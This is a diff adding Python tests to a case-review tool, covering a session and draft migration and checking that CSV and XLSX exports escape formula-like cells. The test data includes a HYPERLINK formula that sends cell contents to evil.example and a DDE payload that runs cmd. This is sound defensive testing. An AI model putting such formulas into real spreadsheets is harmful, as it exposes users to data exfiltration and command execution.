@@ -100,6 +100,12 @@ def test_an_older_store_is_migrated_in_place(tmp_path: Path, monkeypatch, seeds_
         assert new.case_count() == 54
         new.add_user("ana", "reviewer", "hash")
         assert new.user("ana")["role"] == "reviewer"
+        # migration 4: sessions (only a token's hash) and kept review forms
+        new.start_session("ab" * 32, "ana", "127.0.0.1", "2999-01-01T00:00:00.000+00:00", purge_before="")
+        assert new.session("ab" * 32)["user"] == "ana" and new.end_user_sessions("ana") == 1
+        case_id = new.iter_case_ids()[0]
+        assert new.save_draft("ana", case_id, [("note", "メモ")])
+        assert new.take_draft("ana", case_id)["form"] == [("note", "メモ")] and new.take_draft("ana", case_id) is None
 
 
 def test_cli_reports_a_refused_store_in_one_line(tmp_path: Path, capsys):
@@ -239,3 +245,46 @@ def test_cases_table_and_exports(store: Store, tmp_path: Path, capsys):
 
     sheet = load_workbook(xl).active
     assert sheet.max_row == 102 and sheet.cell(2, 1).value == rows[0]["case_id"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+            "\tIMPORTXML(1)", "＝1+1"]
+
+
+def test_exports_never_write_a_formula(store: Store, tmp_path: Path, seeds_dir: Path):
+    """A title from an untrusted document and organisations a reviewer typed, each reading like a
+    formula: CSV cells start with `'`, XLSX cells are strings (no formula element in the sheet)."""
+    from zipfile import ZipFile
+
+    from openpyxl import load_workbook
+
+    case_id = store.iter_case_ids()[0]
+    orgs = [{"name": f, "text": f, "source": "reviewer", "reviewer": "ana"} for f in FORMULAS]
+    store.set_field(case_id, "organisations", orgs, "ana", source="reviewer:ana")
+    # a document whose heading is a formula: a real seed case, retitled, stored as another document
+    doc = ingest(seed_file("001", seeds_dir))
+    cases = [c.to_json() for c in segment(doc)][:1]
+    cases[0]["title"] = FORMULAS[0]
+    store.save_document(_doc_fields(doc), cases, run_id=None, model_version=None)
+    db = str(store.path)
+
+    out = tmp_path / "cases.csv"
+    assert main(["export", "--db", db, "--format", "csv", "-o", str(out)]) == 0
+    rows = {r["case_id"]: r for r in csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig")))}
+    assert rows[case_id]["organisations"] == "'" + "; ".join(FORMULAS)
+    assert rows[cases[0]["case_id"]]["title"] == "'" + FORMULAS[0]
+    cells = [v for r in rows.values() for v in r.values() if v]
+    assert not [v for v in cells if v[0] in "=+-@\t\r＝＋－＠"]
+
+    xl = tmp_path / "cases.xlsx"
+    assert main(["export", "--db", db, "--format", "xlsx", "-o", str(xl)]) == 0
+    sheet = load_workbook(xl).active
+    header = [c.value for c in sheet[1]]
+    by_id = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    org_cell = by_id[case_id][header.index("organisations")]
+    title_cell = by_id[cases[0]["case_id"]][header.index("title")]
+    assert org_cell.value == "; ".join(FORMULAS) and org_cell.data_type == "s"  # the value itself, as text
+    assert title_cell.value == FORMULAS[0] and title_cell.data_type == "s" and title_cell.quotePrefix
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    with ZipFile(xl) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode("utf-8")
